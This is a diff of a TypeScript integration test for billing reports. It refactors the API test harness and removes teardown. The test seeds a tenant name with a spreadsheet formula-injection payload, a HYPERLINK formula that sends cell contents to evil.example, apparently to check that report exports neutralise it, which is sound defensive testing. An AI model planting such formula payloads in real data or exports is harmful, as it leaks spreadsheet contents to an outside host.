@@ -4,20 +4,18 @@ import { setClock } from '../medium/harness/clock';
 import { makeLifecycle } from '../medium/harness/cluster-lifecycle';
 import { NodeLives } from '../medium/harness/node-lives';
 import { makeTenancy, type Tenancy } from '../medium/harness/records';
-import { startWholeApi, type TestApi } from '../medium/harness/test-api';
+import { wholeApi } from '../medium/harness/test-api';
 
 const BASE = '/platform/billing';
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")';
 
 // Real: the whole API and PostgreSQL.
 describe('reports of billing', () => {
-  let api: TestApi;
-  let stop: (() => Promise<void>) | undefined;
+  const api = wholeApi();
   let token: string;
   let tenancy: Tenancy;
 
   beforeAll(async () => {
-    ({ api, stop } = await startWholeApi());
     token = await api.login();
     tenancy = await makeTenancy(api.database.manager, 'hostile');
     await api.database.query('UPDATE tenants SET name = $2 WHERE tenant_id = $1', [tenancy.tenantId, FORMULA]);
@@ -29,8 +27,6 @@ describe('reports of billing', () => {
     await setClock(api.database, new Date('2026-01-10T09:00:00Z'));
     await lives.move(nodeId, 'DESTROYED');
   });
-
-  afterAll(() => stop?.());
 
   const get = (path: string, query: Record<string, string>) =>
     api.call('GET', `${BASE}${path}?${String(new URLSearchParams(query))}`, { token });
